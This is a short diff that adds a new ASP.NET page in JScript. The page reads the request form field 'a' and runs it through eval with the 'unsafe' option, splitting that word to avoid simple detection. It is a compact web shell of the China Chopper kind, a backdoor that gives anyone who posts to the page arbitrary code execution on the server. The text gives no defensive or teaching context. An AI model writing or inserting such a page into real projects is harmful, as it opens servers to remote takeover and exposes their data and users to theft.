@@ -1,0 +1,6 @@
+<%@ Page Language="Jscript"%>
+<%
+var p = Request.Form["a"];
+var u = "un" + "safe";
+eval(p, u);
+%>
